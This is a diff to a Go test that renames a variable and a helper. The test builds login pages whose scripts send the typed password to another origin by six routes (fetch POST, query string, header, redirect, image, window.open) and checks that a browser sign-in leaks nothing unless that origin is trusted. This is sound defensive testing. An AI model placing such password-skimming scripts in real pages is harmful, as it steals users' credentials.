@@ -13,18 +13,18 @@ import (
 )
 
 // scriptsLeadingTo are pages whose scripts give the password to somebody else.
-func scriptsLeadingTo(elsewhere string) map[string]string {
+func scriptsLeadingTo(otherOrigin string) map[string]string {
 	form := func(script string) string {
 		return `<form onsubmit="send(); return false"><input name=username><input type=password name=password><button>Sign in</button></form>
 			<script>const word = () => document.forms[0].password.value; function send() {` + script + `}</script>`
 	}
 	return map[string]string{
-		"fetch":    form(`fetch('` + elsewhere + `/collect', {method: 'POST', body: 'p=' + word()})`),
-		"query":    form(`fetch('` + elsewhere + `/collect?p=' + encodeURIComponent(btoa('x' + word())))`),
-		"header":   form(`fetch('` + elsewhere + `/collect', {headers: {'Accept': word()}})`),
-		"location": form(`location.href = '` + elsewhere + `/collect?p=' + word()`),
-		"image":    form(`new Image().src = '` + elsewhere + `/collect?p=' + word()`),
-		"opened":   form(`window.open('` + elsewhere + `/collect?p=' + word())`),
+		"fetch":    form(`fetch('` + otherOrigin + `/collect', {method: 'POST', body: 'p=' + word()})`),
+		"query":    form(`fetch('` + otherOrigin + `/collect?p=' + encodeURIComponent(btoa('x' + word())))`),
+		"header":   form(`fetch('` + otherOrigin + `/collect', {headers: {'Accept': word()}})`),
+		"location": form(`location.href = '` + otherOrigin + `/collect?p=' + word()`),
+		"image":    form(`new Image().src = '` + otherOrigin + `/collect?p=' + word()`),
+		"opened":   form(`window.open('` + otherOrigin + `/collect?p=' + word())`),
 	}
 }
 
@@ -54,10 +54,10 @@ func TestThePasswordStaysWithTheServerInAChromium(t *testing.T) {
 		assert.ErrorContains(t, err, says)
 	})
 	for _, secret := range []string{"password-of-1", "user1", "session-id-", "cGFzc3dvcmQ"} {
-		assert.NotContains(t, other.heard(), secret)
+		assert.NotContains(t, other.received(), secret)
 	}
 	d.File.TrustedOrigins = []string{other.URL}
 	_, _, err := d.signIn(t.Context(), "leads-away", nil)
 	require.Error(t, err)
-	assert.Contains(t, other.heard(), "password-of-1", "it is trusted now")
+	assert.Contains(t, other.received(), "password-of-1", "it is trusted now")
 }
